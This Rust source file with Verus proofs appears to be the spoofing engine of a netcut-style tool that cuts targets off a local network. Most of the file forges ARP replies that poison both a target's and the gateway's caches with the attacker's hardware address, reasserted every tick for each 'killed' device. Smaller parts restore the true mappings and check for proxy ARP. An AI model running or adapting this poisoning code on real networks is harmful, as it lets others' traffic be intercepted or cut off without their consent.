//! Spoofing engine and restoration routine: the forged ARP replies one
//! poisoning tick sends for each killed target, the corrective replies that
//! restore the true mappings when a target is un-killed, and the proxy-ARP
//! advisory check.

use vstd::prelude::*;

use crate::codec::{arp_frame, build_arp_reply, ARP_OP_REPLY, ZERO_MAC};
use crate::models::NetworkDevice;
use crate::registry::Registry;

verus! {

/// The hardware address a forged reply is sent to when the gateway's could
/// not be resolved: the degraded all-zero fallback, used rather than
/// aborting the loop for one unresolved side.
pub open spec fn mac_or_zero(m: Option<u64>) -> u64 {
    match m {
        Some(v) => v,
        None => ZERO_MAC,
    }
}

/// The two forged replies one poisoning tick sends for one killed target:
/// one to the target claiming the interface is the gateway, one to the
/// gateway claiming the interface is the target.
pub struct PoisonPair {
    pub to_victim: Vec<u8>,
    pub to_gateway: Vec<u8>,
}

/// Forge the poisoning pair for one target: the reply to the victim binds
/// the gateway's address to the attacker's interface, the reply to the
/// gateway binds the victim's address to the same interface, so both sides
/// deliver their mutual traffic to the interface instead.
pub fn poison_frames(
    attacker_mac: u64,
    gateway_ip: u32,
    gateway_mac: Option<u64>,
    victim_mac: u64,
    victim_ip: u32,
) -> (r: PoisonPair)
    ensures
        r.to_victim@ == arp_frame(
            victim_mac,
            attacker_mac,
            ARP_OP_REPLY,
            attacker_mac,
            gateway_ip,
            victim_mac,
            victim_ip,
        ),
        r.to_gateway@ == arp_frame(
            mac_or_zero(gateway_mac),
            attacker_mac,
            ARP_OP_REPLY,
            attacker_mac,
            victim_ip,
            mac_or_zero(gateway_mac),
            gateway_ip,
        ),
{
    let gw_mac = match gateway_mac {
        Some(m) => m,
        None => ZERO_MAC,
    };
    PoisonPair {
        to_victim: build_arp_reply(attacker_mac, gateway_ip, victim_mac, victim_ip),
        to_gateway: build_arp_reply(attacker_mac, victim_ip, gw_mac, gateway_ip),
    }
}

/// Forge the poisoning pairs for one tick's target list, one pair per
/// target, in order. Poisoning is re-asserted every tick for as long as a
/// record stays killed, because both sides' caches expire and may re-ask.
pub fn poison_plans(
    targets: &Vec<NetworkDevice>,
    attacker_mac: u64,
    gateway_ip: u32,
    gateway_mac: Option<u64>,
) -> (r: Vec<PoisonPair>)
    ensures
        r@.len() == targets@.len(),
        forall|j: int|
            0 <= j < r@.len() ==> {
                let d = targets@[j];
                &&& (#[trigger] r@[j]).to_victim@ == arp_frame(
                    d.mac_address,
                    attacker_mac,
                    ARP_OP_REPLY,
                    attacker_mac,
                    gateway_ip,
                    d.mac_address,
                    d.ip_address,
                )
                &&& r@[j].to_gateway@ == arp_frame(
                    mac_or_zero(gateway_mac),
                    attacker_mac,
                    ARP_OP_REPLY,
                    attacker_mac,
                    d.ip_address,
                    mac_or_zero(gateway_mac),
                    gateway_ip,
                )
            },
{
    let mut out: Vec<PoisonPair> = Vec::new();
    let mut i: usize = 0;
    while i < targets.len()
        invariant
            i <= targets@.len(),
            out@.len() == i,
            forall|j: int|
                0 <= j < i ==> {
                    let d = targets@[j];
                    &&& (#[trigger] out@[j]).to_victim@ == arp_frame(
                        d.mac_address,
                        attacker_mac,
                        ARP_OP_REPLY,
                        attacker_mac,
                        gateway_ip,
                        d.mac_address,
                        d.ip_address,
                    )
                    &&& out@[j].to_gateway@ == arp_frame(
                        mac_or_zero(gateway_mac),
                        attacker_mac,
                        ARP_OP_REPLY,
                        attacker_mac,
                        d.ip_address,
                        mac_or_zero(gateway_mac),
                        gateway_ip,
                    )
                },
        decreases targets@.len() - i,
    {
        let d = &targets[i];
        out.push(
            poison_frames(attacker_mac, gateway_ip, gateway_mac, d.mac_address, d.ip_address),
        );
        i = i + 1;
    }
    out
}

/// The corrective replies sent when a target's kill flag transitions off.
/// Best-effort and single-shot: when the gateway's hardware address is
/// unknown the plan is degraded — the victim-side reply cannot assert the
/// true gateway mapping and is omitted.
pub struct RestorePlan {
    pub to_gateway: Vec<u8>,
    pub to_victim: Option<Vec<u8>>,
    pub degraded: bool,
}

/// Build the corrective pair for one restored target: the reply to the
/// gateway reasserts the victim's true mapping, the reply to the victim
/// reasserts the gateway's true mapping.
pub fn restore_frames(
    victim_mac: u64,
    victim_ip: u32,
    gateway_ip: u32,
    gateway_mac: Option<u64>,
) -> (r: RestorePlan)
    ensures
        r.degraded == (gateway_mac is None),
        r.to_gateway@ == arp_frame(
            mac_or_zero(gateway_mac),
            victim_mac,
            ARP_OP_REPLY,
            victim_mac,
            victim_ip,
            mac_or_zero(gateway_mac),
            gateway_ip,
        ),
        match gateway_mac {
            Some(g) => r.to_victim matches Some(f) && f@ == arp_frame(
                victim_mac,
                g,
                ARP_OP_REPLY,
                g,
                gateway_ip,
                victim_mac,
                victim_ip,
            ),
            None => r.to_victim is None,
        },
{
    match gateway_mac {
        Some(g) => RestorePlan {
            to_gateway: build_arp_reply(victim_mac, victim_ip, g, gateway_ip),
            to_victim: Some(build_arp_reply(g, gateway_ip, victim_mac, victim_ip)),
            degraded: false,
        },
        None => RestorePlan {
            to_gateway: build_arp_reply(victim_mac, victim_ip, ZERO_MAC, gateway_ip),
            to_victim: None,
            degraded: true,
        },
    }
}

/// Proxy-ARP advisory: with records keyed by hardware address, a gateway
/// answering ARP on behalf of other hosts shows up as the gateway's own
/// hardware address among the discovered devices. True exactly when the
/// resolved gateway address owns a registry record; the caller only warns,
/// engine behaviour does not change.
pub fn detect_proxy_arp(reg: &Registry, gateway_mac: u64) -> (r: bool)
    ensures
        r == reg.contents().dom().contains(gateway_mac),
{
    reg.get(gateway_mac).is_some()
}

} // verus!
